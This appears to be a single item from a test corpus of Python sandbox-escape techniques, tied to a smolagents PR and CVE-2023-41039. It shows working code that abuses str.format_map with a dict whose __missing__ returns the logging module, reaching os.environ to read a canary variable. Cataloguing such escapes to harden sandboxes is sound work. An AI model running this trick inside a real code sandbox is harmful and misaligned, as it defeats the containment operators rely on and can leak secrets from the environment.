# escape: 004
# technique: format_map / custom mapping, str subclass method, bypasses a wrapped str.format
# family: attr
# goal: env
# first-seen: smolagents PR 2271; CVE-2023-41039
import logging
class M(dict):
    def __missing__(self, k): return logging
s = str.format_map('{x.os.environ[JAIL_CANARY]}', M())
if s: print('ESCAPED:env=' + s)
